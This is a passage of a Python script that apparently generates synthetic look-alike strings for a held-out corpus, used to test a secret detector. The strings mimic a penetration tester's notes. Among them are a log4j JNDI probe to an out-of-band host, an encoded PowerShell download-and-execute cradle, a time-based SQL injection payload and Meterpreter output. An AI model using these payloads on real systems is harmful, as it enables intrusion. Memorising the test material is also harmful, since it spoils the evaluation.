          f"findings F-01..F-{secrets.randbelow(20) + 10}, exec summary draft id {rnd(UPPER + DIGITS, 8)}")
    r.add("msf_sessions",
          f"[*] Meterpreter session {secrets.randbelow(20) + 1} opened (10.13.37.5:4444 -> {ip()}:{secrets.randbelow(15000) + 49152})",
          f"sessions -l\n  Id  Type                     Information\n  {secrets.randbelow(9) + 1}   meterpreter x64/windows  HARBOURLINE\\svc_scan @ WS0{secrets.randbelow(90) + 10}",
          f"beacon {digits(9, True)} checked in from {ip()} pid {secrets.randbelow(20000) + 1000} x64, sleep 60 jitter 20")
    r.add("bloodhound",
          f"path: PT.USER01 -MemberOf-> HELPDESK@HARBOURLINE.INTERNAL -GenericAll-> SVC_BACKUP -> DA. object ids {sid()}",
          f"bloodhound-python collection {hexs(8)}_{pick('computers', 'users', 'groups')}.json, {secrets.randbelow(9000) + 1000} objects",
          f"ADCS: template ESC4 owner {sid()}, CA HL-CA01 cert {hexs(40)}")
    day = secrets.randbelow(28) + 1
    r.add("klist",
          "klist\n#0>  Client: ext-kat @ HARBOURLINE.INTERNAL\n     Server: krbtgt/HARBOURLINE.INTERNAL @ HARBOURLINE.INTERNAL\n     KerbTicket Encryption Type: AES-256-CTS-HMAC-SHA1-96\n     Ticket Flags 0x40e10000 -> forwardable renewable initial pre_authent\n     Session Key Type: AES-256-CTS-HMAC-SHA1-96",
          f"Ticket cache: FILE:/tmp/krb5cc_{secrets.randbelow(90000) + 1000}\nValid starting     Expires            Service principal\n{day:02d}/05/2025 09:14  {day:02d}/05/2025 19:14  cifs/fs01.harbourline.internal@HARBOURLINE.INTERNAL",
          f"Rubeus triage: LUID 0x{hexs(6)} svc_sql, LUID 0x3e7 SYSTEM, {secrets.randbelow(9) + 2} tickets")
    r.add("oob_payload",
          f"blind SSRF confirmed, callback to {rnd(LOWER + DIGITS, 30)}.oastify.com from {ip('203.0.113')}",
          f"interactsh payload {rnd(LOWER + DIGITS, 33)}.oast.fun got DNS only",
          f"log4j probe ${{jndi:ldap://{rnd(LOWER + DIGITS, 20)}.oob.katsec.example/a}} in User-Agent")
    r.add("tls_fingerprint",
          f"JA3 {hexs(32)} matches the default Cobalt Strike profile, flagged by their EDR",
          f"JARM {hexs(62)} on the C2 redirector, change the nginx ciphers",
          f"JA4 t13d1516h2_{hexs(12)}_{hexs(12)} for the implant's TLS client")
    r.add("ioc_hashes",
          f"sample from the phish: sha256 {hexs(64)}\nmd5 {hexs(32)}\nVT 41/72",
          f"dropped DLL sha1 {hexs(40)}, imphash {hexs(32)}",
          f"IOCs for the client SOC:\n{hexs(64)}\n{hexs(64)}\n{hexs(64)}")
    r.add("ssh_host_fp",
          f"jump01 host key fp SHA256:{b64(secrets.token_bytes(32)).rstrip('=')} (ED25519) - verified by phone with Raj",
          f"ssh-keyscan: 256 SHA256:{b64(secrets.token_bytes(32)).rstrip('=')} {ip()} (ECDSA)",
          f"MD5 fp {groups(hexs(32), 2, ':')} on the old appliance, weak")
    r.add("ssh_pubkey",
          f"give Raj this for authorized_keys: ssh-ed25519 {ssh_pub('ssh-ed25519', 32)} kat@katsec",
          f"drop box pubkey: ssh-rsa {ssh_pub('ssh-rsa', 270)} pi@dropbox",
          f"their deploy key (public, in the repo): ecdsa-sha2-nistp256 {ssh_pub('ecdsa-sha2-nistp256', 72)} deploy@ci")
    r.add("pgp_fingerprint",
          f"my PGP fp for the website: {groups(hexs(40).upper(), 4)}",
          f"client's security@ key 0x{hexs(16).upper()} - encrypt report to that",
          f"keyoxide proof: openpgp4fpr:{hexs(40)}")
    r.add("git_commit",
          f"pinned impacket to {hexs(40)} (before the ntlmrelayx regression)",
          f"PoC repo for CVE-2024-{digits(5, True)} at commit {hexs(12)}, reviewed it first",
          f"their /.git/HEAD -> ref: refs/heads/main, ORIG_HEAD {hexs(40)}")
    r.add("container_digest",
          f"kalilinux/kali-rolling@sha256:{hexs(64)} pinned for reproducibility",
          f"their image registry.acme-health.internal/portal@sha256:{hexs(64)} runs as root",
          f"docker ps: {hexs(12)}  bloodhound-ce  Up 3 days")
    r.add("ticket_ids",
          f"jira HLSEC-{digits(4, True)} retest, linked HLSEC-{digits(4, True)}",
          f"ServiceNow INC{digits(7, True)} for the lockout on svc_scan",
          f"change CHG{digits(7, True)} approved the test window 22:00-02:00 AEST")
    r.add("invoice_abn",
          f"invoice KS-{digits(4, True)} to Harbourline, ABN {digits(2, True)} {digits(3)} {digits(3)} {digits(3)}, 30 days",
          f"Burp Pro renewal receipt PS-{digits(8, True)}, AUD {secrets.randbelow(500) + 600}.{digits(2)}",
          f"GST ref {digits(12, True)}, BAS Q{secrets.randbelow(4) + 1} lodged")
    r.add("wifi_bssid",
          f"airodump: BSSID {mac(':', True)} ch 36 WPA2-ENT \"HL-Staff\"; rogue {mac(':', True)} ch 6 OPN",
          f"PMKID grabbed from {mac(':', True)}, not cracked yet (hc22000 line queued)",
          f"AP inventory MACs {mac('-', True)}, {mac('-', True)}, {mac('-', True)}")
    r.add("scope_ranges",
          f"in scope: 10.20.0.0/16, 172.16.{secrets.randbelow(200)}.0/24, *.harbourline.test; OUT: 10.20.99.0/24 (prod EFTPOS)",
          f"external: 203.0.113.{secrets.randbelow(50) + 10}-{secrets.randbelow(50) + 200}, {ip('198.51.100')}",
          f"ASN {digits(5, True)}, netblock 198.51.100.0/24 per the RoE v{secrets.randbelow(4) + 1}")
    r.add("uuid_refs",
          f"HTB machine id {secrets.randbelow(700)}, season {secrets.randbelow(8) + 1}, my team id {digits(4, True)}",
          f"burp project file kestrel-{uid()}.burp (3.1 GB)",
          f"engagement id {uid()} in the client portal")
    r.add("encrypted_blob",
          "$ANSIBLE_VAULT;1.1;AES256\n" + "\n".join(hexs(80) for _ in range(4)),
          f"sops: db_password: ENC[AES256_GCM,data:{b64(secrets.token_bytes(16))},iv:{b64(secrets.token_bytes(32))},tag:{b64(secrets.token_bytes(16))},type:str]",
          f"their DPAPI blob from the registry (no masterkey): 01000000d08c9ddf0115d1118c7a00c04fc297eb{hexs(120)}")
    r.add("ctf_crypto",
          f"RSA chall\nn = {digits(154, True)}\ne = 65537\nc = {digits(150, True)}",
          f"AES-CBC chall, iv={hexs(32)} ct={hexs(96)}  (padding oracle)",
          f"xor chall ciphertext: {b64(secrets.token_bytes(48))}")
    r.add("b64_payload",
          f"EDR caught: powershell -nop -w hidden -enc {unhex_b64('whoami /all; hostname')}",
          f"cradle used in the report appendix: -enc {unhex_b64('IEX (New-Object Net.WebClient).DownloadString(' + chr(39) + 'http://10.13.37.5/a.ps1' + chr(39) + ')')}",
          f"viewstate (unsigned, MAC disabled): /wEP{b64(secrets.token_bytes(60))}")
    r.add("password_policy",
          f"default domain policy: min length {pick(7, 8)}, complexity on, lockout threshold 0 (!), max age {pick(42, 90)} days",
          "fine-grained PSO for admins: MinPasswordLength 14, LockoutThreshold 5, PasswordHistoryCount 24",
          f"top base words in the crack: {secrets.choice(CAPS).lower()}, harbourline, summer, welcome; {secrets.randbelow(40) + 20}% reuse")
    r.add("vault_reference",
          "acme VPN creds are in bitwarden, item 'acme-q3-vpn', org vault Engagements",
          f"client creds shared via Harbourline's onetimesecret link (burned), copy in kdbx entry {uid()}",
          "op://Engagements/Kestrel UAT/tester1 - pulled by the test script at runtime")
    r.add("crack_stats",
          f"cracked {secrets.randbelow(200) + 100} of {secrets.randbelow(400) + 400} NTLM in 2h on the 4090s, {secrets.randbelow(20) + 3} DAs among them",
          f"{secrets.randbelow(30) + 5} accounts with password = username, {secrets.randbelow(15) + 2} with season+year",
          "LM hashes still stored on 3 legacy accounts (NoLMHash not set), noted as F-11")
    r.add("windows_events",
          f"4769 flood: TicketEncryptionType 0x17, ServiceName svc_sql, LogonId 0x{hexs(6)}",
          f"4624 type 3 from {ip()} LogonGuid {{{uid()}}}",
          f"Sysmon 10 lsass access GrantedAccess 0x1010 from pid {secrets.randbelow(20000) + 1000}, ProcessGuid {{{uid()}}}")
    r.add("sqlmap_output",
          "sqlmap -r req.txt -p id --batch\n[INFO] GET parameter 'id' is 'MySQL >= 5.0.12 AND time-based blind' injectable\nback-end DBMS: MySQL >= 5.7\n[INFO] fetched data logged to /home/kat/.local/share/sqlmap/output/uat.acme-health.example",
          f"sqlmap --dbs: available databases [{secrets.randbelow(6) + 3}]: information_schema, patients, audit, mysql",
          f"payload: id=1' AND (SELECT {digits(4, True)} FROM (SELECT(SLEEP(5))){rnd(UPPER + LOWER, 4)})-- {rnd(UPPER + LOWER, 4)}")
    r.add("bof_offsets",
          f"pattern_offset -q {hexs(8)} -> exact match at offset {secrets.randbelow(3000) + 100}",
          "pattern_create -l 60: Aa0Aa1Aa2Aa3Aa4Aa5Aa6Aa7Aa8Aa9Ab0Ab1Ab2Ab3Ab4Ab5Ab6Ab7Ab8Ab9",
          f"badchars: \\x00\\x0a\\x0d\\x{secrets.token_hex(1)}; jmp esp in essfunc.dll at 0x{hexs(8)}")
    return r


def main() -> None:
    write_corpora("make_heldout53.py", [
        ("heldout53_credentials.yaml", credentials(), "batch 53 (Melbourne freelance pentester and CTF player), written blind; every value synthetic"),
        ("heldout53_lookalikes.yaml", lookalikes(), "batch 53 look-alikes: hashes, flags, CVEs, scanner output, AD ids and public examples, written blind"),
    ])


if __name__ == "__main__":
    main()
